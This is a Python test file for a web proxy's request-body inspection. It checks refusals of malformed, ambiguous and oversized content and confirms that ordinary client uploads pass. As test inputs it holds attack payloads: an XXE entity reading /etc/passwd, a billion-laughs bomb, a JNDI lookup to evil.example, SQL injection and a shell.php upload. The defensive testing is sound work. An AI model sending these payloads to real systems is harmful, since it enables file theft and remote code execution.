"""Content that is looked into: what is malformed, ambiguous or too much is refused before the origin gets a byte;
what browsers and programs send passes as it is."""

import gzip
import json
import shutil
import subprocess
import tempfile
import zlib

from harness import test
from harness.content import FORM, JSON, MULTI, XML, chunked, part, parts, post
from harness.server import own_address

A = part(b'form-data; name="a"', b"1")
SMALL = {"site": {"shield": {"bodies": {"max": "2 KiB", "values": 20, "depth": 5, "name": "32 B", "file_name": "40 B",
                                        "part_head": "400 B", "value": "100 B"}}}}

REFUSED = {
    "a form too large": (post(FORM, b"a=1&" * 600), "body-too-large"),
    "the same, of unknown length": (chunked(FORM, *[b"&" * 100] * 30), "body-too-large"),
    "JSON too large": (post(JSON, b'"' + b"v" * 3000 + b'"'), "body-too-large"),
    "a type twice": (post(FORM, b"a=1", b"Content-Type: " + JSON), "body-type"),
    "a type with a parameter twice": (post(FORM + b"; charset=utf-8; charset=utf-7", b"a=1"), "body-type"),
    "a malformed type": (post(b"json", b"{}"), "body-type"),
    "no boundary": (post(b"multipart/form-data", parts(A)), "body-type"),
    "UTF-7": (post(FORM + b"; charset=utf-7", b"a=+ADw-script+AD4-"), "body-charset"),
    "UTF-16 JSON": (post(JSON + b"; charset=utf-16", b"{\0}\0"), "body-charset"),
    "UTF-16 XML": (post(XML, "<a/>".encode("utf-16")), "body-charset"),
    "the charset as an argument": (post(FORM, b"_charset_=ibm037&a=1"), "body-charset"),
    "an unknown coding": (post(JSON, b"{}", b"Content-Encoding: compress"), "body-coding"),
    "no gzip": (post(JSON, b"{}", b"Content-Encoding: gzip"), "body-coding"),
    "a form with a NUL": (post(FORM, b"a=1\0"), "body-malformed"),
    "broken JSON": (post(JSON, b'{"a":1'), "body-malformed"),
    "a number that overflows": (post(JSON, b'{"a":1e999}'), "body-malformed"),
    "JSON that is no UTF-8": (post(JSON, b'{"a":"\xff"}'), "body-malformed"),
    "broken XML": (post(XML, b"<a>"), "body-malformed"),
    "a part without a name": (post(MULTI, parts(part(b"form-data", b"1"))), "body-malformed"),
    "no last boundary": (post(MULTI, A), "body-malformed"),
    "a name twice in JSON": (post(JSON, b'{"a":1,"a":2}'), "body-ambiguous"),
    "a name twice in a part": (post(MULTI, parts(part(b'form-data; name="a"; name="b"', b"1"))), "body-ambiguous"),
    "two file names": (post(MULTI, parts(part(b'form-data; name="a"; filename="a.jpg"; filename="a.php"', b"1"))), "body-ambiguous"),
    "two spellings of a file name": (post(MULTI, parts(part(b"form-data; name=a; filename=a.jpg; filename*=utf-8''a.php", b"1"))), "body-ambiguous"),
    "a quoted-pair in a file name": (post(MULTI, parts(part(rb'form-data; name="a"; filename="a\".php"', b"1"))), "body-ambiguous"),
    "a folded line": (post(MULTI, parts(part(b'form-data;\r\n name="a"', b"1"))), "body-ambiguous"),
    "a line without CR": (post(MULTI, A.replace(b"\r\n\r\n", b"\n\n") + b"--B--\r\n"), "body-ambiguous"),
    "a boundary in a value": (post(MULTI, parts(part(b'form-data; name="a"', b"1\n--B\r\n"))), "body-ambiguous"),
    "data before the parts": (post(MULTI, b"x\r\n" + parts(A)), "body-ambiguous"),
    "data behind the parts": (post(MULTI, parts(A) + A), "body-ambiguous"),
    "parts in a part": (post(MULTI, parts(part(b'form-data; name="a"', b"1", b"Content-Type: multipart/mixed; boundary=C"))), "body-ambiguous"),
    "a part in base64": (post(MULTI, parts(part(b'form-data; name="a"', b"MQ==", b"Content-Transfer-Encoding: base64"))), "body-ambiguous"),
    "a document type": (post(XML, b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "body-doctype"),
    "a billion laughs": (post(XML, b'<!DOCTYPE a [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'), "body-doctype"),
    "many arguments": (post(FORM, b"a=1&" * 21), "body-too-many-values"),
    "many parts": (post(MULTI, parts(*[A] * 21)), "body-too-many-values"),
    "many JSON values": (post(JSON, b"[" + b"1," * 21 + b"1]"), "body-too-many-values"),
    "many elements": (post(XML, b"<a>" + b"<b/>" * 21 + b"</a>"), "body-too-many-values"),
    "deep JSON": (post(JSON, b"[" * 6 + b"]" * 6), "body-too-deep"),
    "deep XML": (post(XML, b"<a>" * 6 + b"</a>" * 6), "body-too-deep"),
    "a long name": (post(FORM, b"n" * 33 + b"=1"), "body-name-too-long"),
    "a long file name": (post(MULTI, parts(part(b'form-data; name="a"; filename="' + b"n" * 41 + b'"', b"1"))), "body-name-too-long"),
    "a long value": (post(FORM, b"a=" + b"v" * 101), "body-value-too-long"),
    "a long part": (post(MULTI, parts(part(b'form-data; name="a"', b"v" * 101))), "body-value-too-long"),
    "many lines in a part": (post(MULTI, parts(part(b'form-data; name="a"', b"1", *[b"X: " + b"x" * 50] * 10))), "body-part-head-too-large"),
    "a NUL in disguise": (post(FORM, b"a=1%00"), "escape-nul"), "overlong UTF-8": (post(FORM, b"a=%c0%ae"), "utf8-overlong"),
}

CHROME = b"----WebKitFormBoundary7MA4YWxkTrZu0gW"
FIREFOX = b"---------------------------9051914041544843365972754266"


def sample(boundary, *all_parts, end=b"\r\n"):
    body = b"".join(b"--" + boundary + b"\r\n" + head + b"\r\n\r\n" + content + b"\r\n" for head, content in all_parts)
    return post(b"multipart/form-data; boundary=" + boundary, body + b"--" + boundary + b"--" + end)


def disposition(text, *lines):
    return b"\r\n".join([b"Content-Disposition: form-data; " + text, *lines])


ORDINARY = {
    "a login": post(FORM, b"user=j%C3%B6rg%40mail.example&password=%24%25%26%2B+%3B&remember=on"),
    "a search": post(FORM + b"; charset=UTF-8", "q=どこ&lang=日本語".encode()),
    "escape sequences that are none": post(FORM, b"discount=50%&q=100%25"),
    "Latin-1": post(FORM, b"name=Andr%E9"), "GBK": post(FORM, b"name=%C4%E3%BA%C3"),
    "a text of lines": post(FORM, b"text=SELECT+1%3B%0D%0Adrop+%3Cb%3E%0D%0A"),
    "check boxes": post(FORM, b"&".join([b"id%5B%5D=1"] * 500)), "JSON as a form": post(FORM, b'{"a": "b & c"}'),
    "Chrome": sample(CHROME, (disposition(b'name="text"'), "Übergröße 😀".encode()), (disposition(b'name="text"'), b""),
                     (disposition('name="file"; filename="日本語 (1).png"'.encode(), b"Content-Type: image/png"), bytes(range(256)) * 8),
                     (disposition(b'name="none"; filename=""', b"Content-Type: application/octet-stream"), b""),
                     (disposition(b'name="quoted"; filename="a%22b%22;c=d.txt"', b"Content-Type: text/plain"), b"--x\r\n")),
    "Firefox": sample(FIREFOX, (disposition(b'name="a[b][]"'), b"1\r\n2"),
                      (disposition("name=\"f\"; filename=\"l'été, \\o/.svg\"".encode().replace(b"\\o/", b"~o~"), b"Content-Type: image/svg+xml"), b"<svg/>")),
    "a blob of JSON": sample(CHROME, (disposition(b'name="meta"; filename="blob"', b"Content-Type: application/json"), b'{"a":1}')),
    "curl": sample(b"------------------------d74496d66958873e", (disposition(b'name="f"; filename="x.tar.gz"', b"Content-Type: application/octet-stream"), b"\x1f\x8b\0")),
    "Python requests": sample(b"0c2cb0a2d8c94b3c8ba1a2ad8f6f5c3e", (disposition(b'name="a"'), b"1"), (disposition(b'name="f"; filename="x.csv"'), b"a;b\n1;2\n")),
    "Python requests of old, not ASCII": sample(b"0c2cb0a2d8c94b3c8ba1a2ad8f6f5c3e", (disposition(b"name=\"f\"; filename*=utf-8''%E6%97%A5.txt"), b"x")),
    "Node's fetch": sample(b"----formdata-undici-056313840397", (disposition(b'name="a"'), b"1"), (disposition(b'name="f"; filename="blob"', b"Content-Type: application/octet-stream"), b"x"), end=b""),
    "Node's form-data": sample(b"--------------------------515890814546601021194782", (disposition(b'name="a"'), b"1"), (disposition(b'name="f"; filename="a.txt"', b"Content-Type: text/plain"), b"x")),
    ".NET": post(b'multipart/form-data; boundary="a1b2c3d4-0000-4444-8888-1234567890ab"',
                 b"--a1b2c3d4-0000-4444-8888-1234567890ab\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n"
                 b"--a1b2c3d4-0000-4444-8888-1234567890ab\r\nContent-Disposition: form-data; name=f; filename=x.txt; filename*=utf-8''x.txt\r\n\r\nx\r\n"
                 b"--a1b2c3d4-0000-4444-8888-1234567890ab--\r\n"),
    "Android": sample(b"1d7a7d0c-7e0b-4a3c-9d1f-5f2c7d6f0d11", (disposition(b'name="a"', b"Content-Transfer-Encoding: binary", b"Content-Type: text/plain; charset=utf-8", b"Content-Length: 1"), b"1")),
    "Apache HttpClient": sample(b"cYgHW2jJmXkWJr7C5bP2aT6V_-1", (disposition(b'name="a"', b"Content-Type: text/plain; charset=ISO-8859-1", b"Content-Transfer-Encoding: 8bit"), b"1")),
    "JSON": post(JSON + b";charset=UTF-8", json.dumps({"user": "jörg", "items": [{"id": i, "price": 1.5, "tags": ["a", None, True]} for i in range(300)]}).encode()),
    "JSON with emoji": post(JSON, json.dumps({"text": "😀 \u2028 \0"}).encode()), "a lone value": post(JSON, b"null"),
    "a report of a policy": post(b"application/csp-report", b'{"csp-report":{"blocked-uri":"inline"}}'),
    "GraphQL": post(JSON, b'{"query":"query($id: ID!) { user(id: $id) { name } }","variables":{"id":"1"}}'),
    "SOAP": post(b"text/xml; charset=utf-8", b'<?xml version="1.0" encoding="utf-8"?>\r\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Get><id>1 &lt; 2</id></Get></soap:Body></soap:Envelope>'),
    "XML-RPC": post(b"text/xml", b'<?xml version="1.0"?><methodCall><methodName>system.list</methodName><params/></methodCall>'),
    "WebDAV": post(XML, b'<?xml version="1.0" encoding="utf-8" ?><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>'),
    "text": post(b"text/plain;charset=UTF-8", b'{"beacon": tru'), "bytes of no type": post(None, b"\0\xff{"), "an empty type": post(b"", b"{"),
    "an upload": post(b"application/octet-stream", b"--B\r\n" * 1000), "parts of another kind": post(
        b"multipart/related; boundary=B; type=\"application/xop+xml\"",
        b"--B\r\nContent-Type: application/xop+xml\r\nContent-ID: <root>\r\n\r\n<a/>\r\n--B\r\nContent-Type: image/png\r\n"
        b"Content-ID: <one>\r\n\r\n\x89PNG\r\n--B--\r\n"),
    "gzip": post(JSON, gzip.compress(b'{"a":1}'), b"Content-Encoding: gzip"),
    "deflate": post(FORM, zlib.compress(b"a=1"), b"Content-Encoding: deflate"),
    "no content at all": post(JSON, b""), "pieces": chunked(FORM, b"a", b"=", b"1", b"&b=%", b"4", b"1"),
    "a batch": post(JSON, json.dumps(list(range(9000))).encode()),
}


@test(each=REFUSED)
def content_is_refused_before_the_origin_gets_a_byte(t, row):
    t.refused(t.server(SMALL), *row)


@test(each={"max": ("a form too large", "max", 2048), "values": ("many arguments", "values", 20), "depth": ("deep JSON", "depth", 5),
            "name": ("a long name", "name", 32), "file_name": ("a long file name", "file_name", 40),
            "part_head": ("many lines in a part", "part_head", 400), "value": ("a long value", "value", 100)})
def a_limit_is_named_with_its_value(t, row):
    which, setting, limit = row
    _, line = t.refused(t.server(SMALL), *REFUSED[which])
    t.equal((line.setting, line.limit), (f"sites[].shield.bodies.{setting}", limit), "setting and limit in the log")
    t.check(line.value > limit, f"the value in the log: {line.raw}")


@test(each=ORDINARY)
def what_browsers_and_programs_send_passes_as_it_is(t, data):
    request = t.answered(t.server(), data)
    if b"chunked" not in data:
        t.equal(request.body, data.partition(b"\r\n\r\n")[2], "the content that the origin got")


ATTACKS = {"a form": (FORM, b"name=x%27+or+1%3D1", "sql.tautology"),
           "JSON": (b"application/json", b'{"q": {"name": "${jn\\u0064i:ldap://evil.example/a}"}}', "java.lookup"),
           "the name of a file": (MULTI, part(b'form-data; name="f"; filename="shell.php"', b"x") + b"--B--\r\n", "shell.uploaded"),
           "XML": (b"text/xml", b"<a><b>&lt;script&gt;</b></a>", "xss.script-tag")}


@test(each=ATTACKS)
def rules_are_asked_about_values_in_content(t, row):
    kind, content, rule = row
    server = t.server()
    data = post(kind, content)
    _, line = t.refused(server, data, "rule")
    t.equal(line.rule, rule, "rule")
    watching = t.server({"site": {"shield": {"mode": "monitor"}}})
    mark = watching.mark()
    t.equal(t.answered(watching, data).body, content, "the content that the origin got")
    line = watching.next_line(mark)
    t.equal((line.rule, line.enforced), (rule, False), "the rule in the log")


@test
def signs_in_head_and_content_add_up(t):
    server = t.server()
    t.answered(server, post(FORM, b"q=version()"))
    t.refused(server, post(FORM, b"q=version()", target=b"/?q=information_schema.tables"), "score")


@test
def a_byte_at_a_time_is_the_same(t):
    server = t.server()
    for data, reason in ((ORDINARY["Chrome"][-600:], None), (REFUSED["a boundary in a value"][0], "body-ambiguous")):
        if reason is None:
            data = ORDINARY[".NET"]
            client = t.client(server).send(*[data[i:i + 1] for i in range(len(data))])
            t.equal(client.read_response().status, 200, "status")
        else:
            t.refused(server, [data[i:i + 1] for i in range(len(data))], reason)


@test
def the_origin_waits_until_content_is_read_to_its_end(t):
    """However long it takes, and whatever timeouts.collect says."""
    server = t.server({"timeouts": {"collect": "100 ms"}})
    data = post(FORM, b"a=" + b"x" * 200_000 + b"&b=1")
    seen = server.origin.received
    client = t.client(server).send(data[:150_000], 0.5)
    t.equal(server.origin.received, seen, "bytes that the origin got before the end")
    client.send(data[150_000:])
    t.equal(client.read_response().status, 200, "status")


@test
def uploads_above_the_limit_stream_and_never_look_whole_where_they_are_wrong(t):
    """Of a length that is said, and of none."""
    def everything(connection, request):
        while connection.more(5):
            pass
        return False
    server = t.server({"site": {"shield": {"bodies": {"max": "64 KiB"}}}}, scripts={"/cut": everything})
    content = part(b'form-data; name="f"; filename="x.bin"', b"x\r\n-" * 100_000)
    wrong = content + b"--B\nx" + b"x" * 50_000
    for data in (post(MULTI, wrong, target=b"/cut"),
                 chunked(MULTI, *[wrong[i:i + 30_000] for i in range(0, len(wrong), 30_000)]).replace(b"POST / ", b"POST /cut ")):
        mark, count = server.mark(), len(server.origin.requests)
        client = t.client(server)
        try:
            client.send(data)
        except OSError:
            pass
        t.equal(client.read_response().status, 400, "status")
        t.reason(server.next_line(mark), "body-ambiguous")
        for request in server.origin.requests[count:]:
            t.eventually(lambda request=request: request.connection.ended, "the origin's connection ends")
            got = bytes(request.connection.received)[len(request.head):]
            t.check(b"--B\nx" not in got and not got.endswith(b"0\r\n\r\n") and len(got) < len(wrong), f"it looks complete: {len(got)} of {len(wrong)} bytes, …{got[-20:]!r} {got.find(wrong[-50006:-50000])}")
    t.answered(server, post(MULTI, parts(content)))
    t.answered(server, chunked(MULTI, *[parts(content)[i:i + 30_000] for i in range(0, len(parts(content)), 30_000)]))


@test
def uploads_above_the_limit_are_refused_where_the_site_says_so(t):
    content = parts(part(b'form-data; name="f"; filename="x.bin"', b"x" * 3000))
    for shield in ({"bodies": {"max": "2 KiB", "larger": "refuse"}}, {"profile": "strict", "bodies": {"max": "2 KiB"}}):
        server = t.server({"site": {"shield": shield}})
        t.refused(server, post(MULTI, content), "body-too-large")
        t.refused(server, chunked(MULTI, content), "body-too-large")


@test
def coded_content_is_looked_into_and_bounded(t):
    server = t.server()
    zipped = b"Content-Encoding: gzip"
    t.refused(server, post(JSON, gzip.compress(b'{"a":1,"a":2}'), zipped), "body-ambiguous")
    t.refused(server, post(JSON, gzip.compress(b'"' + b"x" * (2 << 20) + b'"'), zipped), "body-coding", "body-too-large")
    t.refused(server, post(JSON, gzip.compress(json.dumps([i * 7919 % 65537 for i in range(9999)] * 20).encode()), zipped), "body-too-many-values", "body-too-large")
    t.refused(server, post(JSON, gzip.compress(b"{}") + b"x", zipped), "body-coding")
    t.refused(server, post(JSON, gzip.compress(b"{}")[:-1], zipped), "body-coding")
    strict = t.server({"site": {"shield": {"bodies": {"codings": "refuse"}}}})
    _, line = t.refused(strict, post(JSON, gzip.compress(b"{}"), zipped), "body-coding")
    t.equal(line.setting, "sites[].shield.bodies.codings", "the setting in the log")
    t.answered(strict, post(JSON, b"{}", b"Content-Encoding: identity"))


@test
def a_site_that_watches_notes_and_passes(t):
    server = t.server({"site": {"shield": {"mode": "monitor"}}})
    for data, reason in ((post(JSON, b"{"), "body-malformed"), (post(FORM, b"x" * (2 << 20)), "body-too-large"),
                         (post(b"json", b"x"), "body-type"), (chunked(JSON, b"[", b"1" * 5000, b"}"), "body-malformed")):
        mark = server.mark()
        t.answered(server, data)
        line = server.next_line(mark)
        t.reason(line, reason)
        t.equal((line.enforced, line.status), (False, 200), "the log")


@test
def what_is_skipped_is_not_looked_into(t):
    server = t.server({"site": {"shield": {"bodies": {"skip_paths": ["/raw"], "skip_types": ["application/vnd.odd*"], "inspect": ["json", "form"]}}}})
    t.answered(server, post(JSON, b"{", target=b"/raw/x"))
    t.answered(server, post(b"application/vnd.odd+json; v=1", b"{"))
    t.answered(server, post(XML, b"<a>"))
    t.refused(server, post(JSON, b"{", target=b"/rawer"), "body-malformed")
    t.refused(server, post(b"application/vnd.odd+json", b"{", b"Content-Type: " + JSON), "body-type")
    off = t.server({"site": {"shield": {"bodies": {"inspect": []}}}})
    t.answered(off, post(JSON, b"{"))
    t.answered(off, post(b"json", b"{", b"Content-Type: " + JSON))


@test
def a_site_chooses_its_answer(t):
    server = t.server({"site": {"shield": {"answers": [{"reasons": ["body-malformed"], "status": 403}]}}})
    client = t.client(server).send(post(JSON, b"{"))
    t.equal(client.read_response().status, 403, "status")


CURL = {
    "a form": ["--data", "a=1&b=two words"], "urlencoded": ["--data-urlencode", "text=ü & %"],
    "JSON": ["-H", "Content-Type: application/json", "--data", '{"a":[1,2]}'],
    "parts": ["-F", "a=1", "-F", "f=@{file};type=image/png", "-F", "g=@{file};filename=日本 \"語\".txt", "-F", "j={{}};type=application/json"],
    "a file": ["-T", "{file}"], "in chunks": ["-H", "Transfer-Encoding: chunked", "-F", "f=@{file}"],
}


@test(each=CURL)
def curl_is_served(t, arguments):
    if not shutil.which("curl"):
        t.skip("curl is not installed")
    server = t.server()
    with tempfile.NamedTemporaryFile(suffix=".png") as file:
        file.write(bytes(range(256)) * 2000)
        file.flush()
        command = ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--resolve", f"site.example:{server.address[1]}:{server.address[0]}"]
        run = subprocess.run([*command, *[text.replace("{file}", file.name).replace("{{", "{").replace("}}", "}") for text in arguments],
                              f"http://site.example:{server.address[1]}/x"], capture_output=True, text=True, timeout=20, check=False)
    t.equal(run.stdout, "200", f"what curl says: {run.stderr}")


NODE = """
const url = process.argv[1], form = new FormData();
form.append('a', '1'); form.append('ü "x"\\r\\ny', '😀\\r\\n');
form.append('f', new Blob([new Uint8Array(300000)], {type: 'image/png'}), '日本 "語".png');
form.append('j', new Blob(['{"a":1}'], {type: 'application/json'}));
const bodies = [form, new URLSearchParams({a: 'ü & %', b: ''}), JSON.stringify({a: 1}), new Blob(['x'])];
(async () => { for (const body of bodies) { const r = await fetch(url, {method: 'POST', body}); await r.text(); console.log(r.status); } })();
"""


@test
def nodes_fetch_is_served(t):
    if not shutil.which("node"):
        t.skip("node is not installed")
    server = t.fresh_server({"site": {"hosts": ["site.example", own_address()]}})
    run = subprocess.run(["node", "-e", NODE, f"http://{server.address[0]}:{server.address[1]}/"], capture_output=True, text=True, timeout=30, check=False)
    t.equal(run.stdout.split(), ["200"] * 4, f"what Node says: {run.stderr}")
